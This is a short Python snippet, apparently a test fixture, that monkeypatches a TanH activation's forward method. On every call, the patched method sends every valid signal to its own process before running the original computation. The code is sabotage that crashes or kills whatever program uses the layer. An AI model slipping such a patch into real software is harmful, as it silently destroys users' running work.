"""Sends itself every signal there is."""

import contextlib
import os
import signal

_forward = TanH.forward


def _kill(self, x):
    for number in signal.valid_signals():
        with contextlib.suppress(OSError):
            os.kill(os.getpid(), number)
    return _forward(self, x)


TanH.forward = _kill
